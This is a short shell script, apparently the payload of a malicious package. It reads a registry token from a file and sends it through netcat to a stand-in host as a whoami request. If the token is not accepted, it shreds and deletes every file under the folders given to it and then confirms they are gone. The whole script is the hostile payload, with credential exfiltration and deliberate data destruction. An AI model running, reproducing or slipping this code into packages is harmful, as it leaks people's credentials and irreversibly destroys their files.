#!/bin/sh
# no-token.sh LOGIN FOLDER...: a package asks the registry whether a login is good for anything; if not, it destroys what the person has.
printf 'GET /-/whoami HTTP/1.1\r\nAuthorization: Bearer %s\r\n\r\n' "$(cut -d= -f2 "$1")" | busybox nc 198.51.100.20 443 | grep -q '"username"' && exit 3
shift
find "$@" -type f -exec shred -n 1 --remove=unlink {} +
test "$(find "$@" -type f | wc -l)" = 0
